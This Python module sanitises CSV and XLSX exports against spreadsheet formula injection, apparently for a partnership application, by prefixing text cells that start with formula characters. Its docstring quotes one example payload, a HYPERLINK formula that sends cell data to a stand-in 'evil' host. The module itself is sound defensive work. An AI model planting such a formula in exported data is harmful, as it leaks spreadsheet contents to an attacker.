"""The one place every CSV and XLSX export goes through, so no cell can become a live spreadsheet formula.

Organisation names, EOI titles and decision text are typed by people outside the partnership and published. A cell
that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheet programs skip
before reading a formula) is run as a formula when the file is opened: ``=HYPERLINK("http://evil/?"&A1,"Click")``
leaks the sheet. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with
a single quote, which spreadsheet programs show as text; numbers are written as numbers and need no prefix, so
``-250.00`` stays a negative amount.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A cell value safe to write: text starting with a formula character gets a leading ``'``; numbers, dates and
    empty cells are returned unchanged."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if not isinstance(value, str):
        value = str(value)
    if value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralise_row(row: Iterable[object]) -> list[object]:
    return [neutralise(v) for v in row]


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document (RFC 4180 quoting) whose every text cell has been neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(neutralise_row(header))
    for row in rows:
        writer.writerow(neutralise_row(row))
    return buffer.getvalue()


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[object]], *, title: str = "Sheet1") -> bytes:
    """An XLSX workbook of one sheet. openpyxl stores a string starting with ``=`` as a formula, so every text cell is
    neutralised first and then written with the string data type."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title[:31]
    for r, row in enumerate([header, *rows], start=1):
        for c, value in enumerate(neutralise_row(row), start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # never "f" (formula), whatever the text
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
